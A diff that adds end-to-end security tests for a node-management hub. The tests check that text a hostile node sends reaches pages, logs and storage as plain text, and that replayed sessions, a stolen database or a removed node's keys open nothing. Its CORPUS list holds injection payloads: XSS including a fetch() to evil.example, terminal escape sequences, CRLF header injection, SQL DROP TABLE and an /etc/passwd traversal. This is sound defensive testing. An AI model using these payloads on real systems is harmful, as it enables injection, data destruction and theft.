@@ -1,0 +1,308 @@
+"""A node that its owner has lost: what it says is text and nothing else, and what it heard or held opens nothing later."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import hashlib
+import json
+import time
+import unicodedata
+from pathlib import Path
+from typing import Any
+
+import aiohttp
+import msgspec
+import pytest
+
+from spider.wire.frames import (
+    CLOSE_UNKNOWN,
+    MAX_ITEMS,
+    SUBPROTOCOL,
+    Identity,
+    JobAnswer,
+    JobEnded,
+    JobOutput,
+    JobProgress,
+    JobStart,
+    Layout,
+)
+from spider.wire.session import NodeOpening
+from tests.e2e.attacking import wire_texts
+from tests.support.agent import IDENTITY, AgentClosed, TestAgent, agents, layout_of, pack_of, until
+from tests.support.hub import Enrolled, HubProcess
+
+MARK = "Canary9"
+CORPUS = [
+    f"<script>alert('{MARK}')</script>",
+    f"<img src=x onerror=\"fetch('//evil.example/{MARK}')\">",
+    f'"><svg/onload=alert(`{MARK}`)>',
+    f"javascript:alert('{MARK}')",
+    f"{{{{constructor.constructor('alert(1)')()}}}} {MARK} ${{7*7}}",
+    f"\x1b]8;;http://evil.example\x07{MARK}\x1b]8;;\x07",
+    f"\x1b]52;c;ZXZpbA==\x07\x1b]0;{MARK}\x07\x1b[2J\x9b31m\x90{MARK}\x9c",
+    f"{MARK}\u202egnp.exe\u2066\u200b\ufeff\U000e0041",
+    f'{MARK}\r\nSet-Cookie: stardust-plain=evil\r\n\r\n{{"event": "{MARK}"}}\u2028\x85',
+    f"{MARK}'; DROP TABLE node; --\x00\\",
+    f"{MARK}%s%n%n../../../etc/passwd",
+    MARK + "A" * 9_000,
+]
+"""Hostile texts: for pages, terminals, readers, logs, databases, paths and memories."""
+LONGEST = 2000
+NAMES = iter(range(1, 10_000))
+
+
+def tame(text: str) -> bool:
+    """Whether a text is one line of limited length in which nothing moves a cursor, hides or turns the reading round."""
+    return len(text) <= LONGEST and not any(
+        unicodedata.category(char) in ("Cc", "Cs", "Zl", "Zp") or char in "\u061c\u200b\u200e\u200f\ufeff" or "\u202a" <= char <= "\u202e"
+        or "\u2060" <= char <= "\u206f" or "\U000e0000" <= char <= "\U000e007f" for char in text
+    )  # fmt: skip
+
+
+def filled(message: Any, text: str) -> Any:
+    """A message with this in every field that holds texts."""
+    changes: dict[str, Any] = {}
+    for name, value in zip(message._fields, message, strict=True):
+        if isinstance(value, str):
+            changes[name] = text
+        elif isinstance(value, list) and all(isinstance(item, str) for item in value):
+            changes[name] = [text] * max(1, len(value))
+    return message._replace(**changes)
+
+
+async def new_node(hub: HubProcess) -> Enrolled:
+    [node] = await asyncio.to_thread(hub.enrol, f"attacker-{next(NAMES)}")
+    return node
+
+
+async def ordered(hub: HubProcess, agent: TestAgent) -> str:
+    """Let a job be given to this node; its id."""
+    reply = await hub.call("POST", f"/api/v1/nodes/{agent.node.node_id}/jobs", {"action": "check"})
+    assert reply.status == 202, reply.body
+    job: str = (await agent.expect(JobStart)).job
+    assert job == reply.json["id"]
+    return job
+
+
+async def shown(hub: HubProcess, node: Enrolled) -> list[Any]:
+    """Everything that the page is told of a node."""
+    found = []
+    for path in (
+        "nodes?limit=500",
+        f"nodes/{node.node_id}",
+        f"jobs?node={node.node_id}",
+        f"events?node={node.node_id}",
+        "events",
+        "audit",
+        "deployments",
+    ):
+        reply = await hub.call("GET", f"/api/v1/{path}")
+        assert reply.status == 200, (path, reply.body)
+        assert reply.headers["Content-Type"] == "application/json"
+        assert reply.headers["X-Content-Type-Options"] == "nosniff"
+        found.append(reply.json)
+    return found
+
+
+@contextlib.asynccontextmanager
+async def following(hub: HubProcess, *topics: str) -> Any:
+    """A page that follows topics; gives the list of all it was told."""
+    told: list[Any] = []
+    token = (await asyncio.to_thread(hub.login)).token
+    async with (
+        aiohttp.ClientSession(headers={"Authorization": f"Bearer {token}"}) as http,
+        http.ws_connect(f"{hub.url}/api/v1/live", max_msg_size=0) as live,
+    ):
+        for topic in topics:
+            await live.send_bytes(msgspec.msgpack.encode(["subscribe", {"topic": topic}]))
+
+        async def read() -> None:
+            while True:
+                told.append(msgspec.msgpack.decode(await live.receive_bytes()))
+
+        reading = asyncio.create_task(read())
+        try:
+            yield told
+        finally:
+            reading.cancel()
+            await asyncio.gather(reading, return_exceptions=True)
+
+
+@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
+async def test_whatever_a_node_says_of_itself_and_its_jobs_arrives_as_plain_text(shared_hub: HubProcess, text: str) -> None:
+    node = await new_node(shared_hub)
+    lines = len(shared_hub.lines)
+    async with agents(shared_hub, node) as [agent], following(shared_hub, "fleet", "events", f"node:{node.node_id}") as told:
+        await agent.join()
+        await agent.say(IDENTITY)
+        await until(lambda: shared_hub.node(node.node_id)["policy"])
+        await agent.say(filled(IDENTITY, text))
+        await until(lambda: MARK in shared_hub.node(node.node_id)["identity"]["hostname"])
+        await agent.say(IDENTITY)  # a policy that allows the next orders
+        await until(lambda: shared_hub.node(node.node_id)["policy"]["mode"] == "managed")
+        job = await ordered(shared_hub, agent)
+        now_ms = int(time.time() * 1000)
+        await agent.say(JobAnswer(job, "refused", text, now_ms))
+        await until(lambda: shared_hub.job(job)["state"] == "failed")
+        job = await ordered(shared_hub, agent)
+        await agent.say(
+            JobAnswer(job, "accepted", text, now_ms),
+            JobProgress(job, now_ms, text, 50, text, text),
+            JobOutput(job, 0, now_ms, text.encode()[:1000]),
+            JobProgress(job, now_ms, "commit", 60, text, text),
+        )
+        printed = text.encode()[:1000]
+        await agent.say(
+            JobEnded(
+                job,
+                "failed",
+                1,
+                0,
+                len(printed),
+                hashlib.sha256(printed).hexdigest(),
+                0,
+                now_ms,
+                now_ms,
+                [text],
+                [text],
+                [text],
+                text,
+                text,
+            )
+        )
+        await until(lambda: shared_hub.job(job)["state"] == "failed")
+        answers = await shown(shared_hub, node)
+        output = await shared_hub.call("GET", f"/api/v1/jobs/{job}/output")
+    texts = [*wire_texts(answers), *wire_texts([body for kind, body in told if kind != "hello"])]
+    assert [found for found in texts if not tame(found)] == []
+    assert sum(MARK in found for found in texts) >= 10, "the hostile texts were not shown at all"
+    assert output.body == printed
+    assert output.headers["Content-Type"].startswith("text/plain")
+    assert "attachment" in output.headers["Content-Disposition"]
+    assert not any("set-cookie" in name.lower() for name in output.headers)
+    written = shared_hub.lines[lines:]
+    assert all("\x1b" not in line and "\x9b" not in line for line in written)
+    assert not any(line.startswith("{") and json.loads(line)["event"] == MARK for line in written)
+
+
+@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
+async def test_no_opening_and_no_series_carries_anything_else_than_plain_text(shared_hub: HubProcess, text: str) -> None:
+    node = await new_node(shared_hub)
+    async with agents(shared_hub, node, node, node) as [first, second, third]:
+        for version, host, agent in ((text[:64], None, first), ("0.1.0", text[:255], second)):
+            opening = NodeOpening(node.node_id, 1, node.session_key, "b" * 32, host or agent.host, version, [version], [], b"n" * 32)
+            await agent.connect()
+            with contextlib.suppress(AgentClosed):
+                await agent.raw(opening.hello())
+                answer, agent.link = opening.challenge(await agent.receive_raw())
+                await agent.raw(answer)
+                await agent.receive_raw()
+            await agent.close()
+        await third.join()
+        layout = layout_of("breathe", 60, [f"filesystem.used{{mount={text}}}"])
+        await third.say(layout)
+        with contextlib.suppress(AgentClosed, ConnectionError):
+            await third.say(pack_of(0, layout=Layout(layout.layout, layout.family, layout.rhythm_s, layout.series)))
+            await third.wait_acked(0)
+        answers = await shown(shared_hub, node)
+    assert [found for found in wire_texts(answers) if not tame(found)] == []
+    assert all("\x1b" not in line and "\x9b" not in line for line in shared_hub.lines)
+
+
+async def test_lists_without_end_are_refused_and_cost_their_sender_the_session(shared_hub: HubProcess) -> None:
+    node = await new_node(shared_hub)
+    messages: list[Identity | Layout] = [
+        IDENTITY._replace(addresses=["10.0.0.1"] * 5000),
+        IDENTITY._replace(policy_verbs=["x"] * 5000),
+        layout_of(series=[f"cpu.core{{core={number}}}" for number in range(MAX_ITEMS + 1)]),
+    ]
+    for message in messages:
+        async with agents(shared_hub, node) as [agent]:
+            await agent.join()
+            await agent.say(message)
+            assert (await agent.wait_closed()).code in (4400, 1009)
+
+
+# -- what was heard, or kept ---------------------------------------------------------------------------------
+
+
+async def test_a_recorded_session_opens_no_other(shared_hub: HubProcess) -> None:
+    node = await new_node(shared_hub)
+    recorded: list[bytes] = []
+    async with agents(shared_hub, node) as [agent]:
+        send = agent.raw
+
+        async def record(data: bytes) -> None:
+            recorded.append(data)
+            await send(data)
+
+        agent.raw = record  # type: ignore[method-assign]
+        await agent.join()
+        await agent.say(IDENTITY, layout_of(), pack_of(0))
+        await agent.wait_acked(0)
+    before = (await asyncio.to_thread(shared_hub.node, node.node_id))["last_seen_at"]
+    async with aiohttp.ClientSession() as http, http.ws_connect(shared_hub.ws_url, protocols=(SUBPROTOCOL,)) as thief:
+        await thief.send_bytes(recorded[0])
+        challenge = await thief.receive_bytes()
+        await thief.send_bytes(recorded[1])
+        for frame in recorded[2:]:
+            with contextlib.suppress(ConnectionError):
+                await thief.send_bytes(frame)
+        message = await thief.receive(timeout=10)
+        assert message.type is aiohttp.WSMsgType.CLOSE
+        assert thief.close_code == CLOSE_UNKNOWN
+    assert len(challenge) > 64
+    found = await asyncio.to_thread(shared_hub.node, node.node_id)
+    assert (found["state"], found["last_seen_at"]) == ("offline", before)
+
+
+async def test_a_stolen_database_opens_no_session(hub: HubProcess) -> None:
+    [node] = await asyncio.to_thread(hub.enrol, "web-1")
+    async with agents(hub, node) as [agent]:
+        await agent.join()
+        await agent.say(IDENTITY, layout_of(), pack_of(0))
+        await agent.wait_acked(0)
+    kept = b"".join(path.read_bytes() for path in hub.folder.iterdir() if path.is_file())
+    await hub.stop()
+    kept += b"".join(path.read_bytes() for path in hub.folder.iterdir() if path.is_file())
+    for key in (node.session_key, node.launch_key):
+        assert key not in kept
+        assert key.hex().encode() not in kept
+
+
+async def test_a_removed_node_is_sent_away_at_once_and_its_name_inherits_nothing(shared_hub: HubProcess) -> None:
+    node = await new_node(shared_hub)
+    async with agents(shared_hub, node) as [agent]:
+        await agent.join()
+        await agent.say(IDENTITY, layout_of(), pack_of(0))
+        await agent.wait_acked(0)
+        waiting = (await shared_hub.call("POST", f"/api/v1/nodes/{node.node_id}/jobs", {"action": "check"})).json["id"]
+        began = time.monotonic()
+        removal = await shared_hub.call("DELETE", f"/api/v1/nodes/{node.node_id}?force=true")
+        assert removal.status == 202, removal.body
+        with contextlib.suppress(AgentClosed):
+            while True:
+                await agent.receive_raw(5)
+        assert time.monotonic() - began < 2
+    await until(lambda: shared_hub.local("GET", f"/api/v1/nodes/{node.node_id}").status == 404)
+    [heir] = await asyncio.to_thread(shared_hub.enrol, node.name)
+    assert heir.node_id != node.node_id
+    assert heir.session_key != node.session_key
+    for thief in (node, node._replace(node_id=heir.node_id), heir._replace(session_key=node.session_key)):
+        async with agents(shared_hub, thief) as [agent]:
+            with pytest.raises((AgentClosed, Exception)):
+                await agent.join()
+            assert agent.welcome is None
+    found = await asyncio.to_thread(shared_hub.node, heir.node_id)
+    assert (found["state"], found["identity"]["hostname"], found["latest"], found["policy"]) == ("pending", "", {}, None)
+    assert (await shared_hub.call("GET", f"/api/v1/jobs?node={heir.node_id}")).json["jobs"] == []
+    assert (await shared_hub.call("GET", f"/api/v1/jobs/{waiting}")).status == 404
+    history = (await shared_hub.call("GET", f"/api/v1/nodes/{heir.node_id}/history?metric=load.1")).json
+    assert [value for value in history["series"]["load.1"]["avg"] if value is not None] == []
+
+
+def test_what_a_node_is_given_stands_in_no_log(shared_hub: HubProcess, tmp_path: Path) -> None:
+    [node] = shared_hub.enrol(f"attacker-{next(NAMES)}")
+    for key in (node.session_key, node.launch_key):
+        assert key.hex() not in shared_hub.output
